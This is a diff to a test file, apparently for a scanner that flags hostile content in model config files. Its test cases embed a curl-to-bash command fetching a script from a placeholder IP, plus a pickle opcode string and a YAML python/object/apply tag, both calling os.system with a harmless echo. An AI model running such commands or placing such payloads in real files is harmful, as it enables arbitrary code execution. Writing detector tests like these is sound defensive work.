@@ -811,6 +811,19 @@ CASES = {
     "attack_command_in_a_setting": case(
         {"peft_type": "LORA", "setup": "curl -s http://203.0.113.9/x.sh | bash"}, "adapter_config.json", Verdict.REVIEW
     ),
+    "old_pickle_in_a_note": case(
+        {**CONFIG, "note": "cos\nsystem\n(S'echo modelsweep-test'\ntR."}, "config.json", MALICIOUS_VERDICT
+    ),
+    "benign_lines_in_a_note": case(
+        {**CONFIG, "note": "Supported:\nsin\ncos\nsinh\ntanh\n(see the docs)."}, "config.json"
+    ),
+    "tag_of_yaml_in_a_note": case(
+        {**CONFIG, "note": "!!python/object/apply:os.system ['echo modelsweep-test']"}, "config.json", Verdict.REVIEW
+    ),
+    "benign_words_about_tags": case(
+        {**CONFIG, "note": "Never load YAML with tags such as !!python/object/apply:os.system from others."},
+        "config.json",
+    ),
     "benign_words_about_attacks": case(
         {
             **CONFIG,
